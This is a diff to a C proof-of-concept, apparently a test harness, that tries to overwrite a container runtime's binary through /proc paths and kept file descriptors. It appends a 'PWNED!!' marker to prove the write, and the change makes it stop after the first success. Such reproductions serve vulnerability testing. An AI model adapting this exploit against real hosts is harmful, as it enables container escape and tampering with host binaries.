@@ -10,8 +10,9 @@
  * and again later through an O_PATH fd it keeps (the original exploit waits for the runtime to
  * exit, when ETXTBSY no longer protects the file). A successful write open of the binary
  * (same dev and inode) is reported as "opened", and the attacker then appends 8 bytes to prove
- * the write lands ("wrote"). When the file DONE appears it retries every kept fd once more,
- * writes "finished" and exits.
+ * the write lands ("wrote") and stops attacking: holding the binary open for writing any
+ * longer would only make the runtime's next execve fail (ETXTBSY). When the file DONE appears
+ * it retries every kept fd once more, writes "finished" and exits.
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -33,12 +34,13 @@ static off_t bin_size;
 static int kept[MAX_KEPT];
 static int nkept;
 static unsigned char seen[MAX_PID];
+static int proved;
 
 /* Try both write modes on PATH; report and prove any that reaches the runtime binary. */
 static void try_write(const char *path, const char *how, int pid)
 {
     static const int modes[] = { O_WRONLY, O_RDWR };
-    for (unsigned i = 0; i < sizeof modes / sizeof modes[0]; i++) {
+    for (unsigned i = 0; i < sizeof modes / sizeof modes[0] && !proved; i++) {
         int fd = open(path, modes[i] | O_CLOEXEC);
         if (fd < 0)
             continue;
@@ -47,6 +49,7 @@ static void try_write(const char *path, const char *how, int pid)
             fprintf(report, "opened %s %d %s\n", how, pid, modes[i] == O_WRONLY ? "O_WRONLY" : "O_RDWR");
             if (lseek(fd, 0, SEEK_END) >= 0 && write(fd, "PWNED!!\n", 8) == 8)
                 fprintf(report, "wrote %s %d\n", how, pid);
+            proved = 1;
         }
         close(fd);
     }
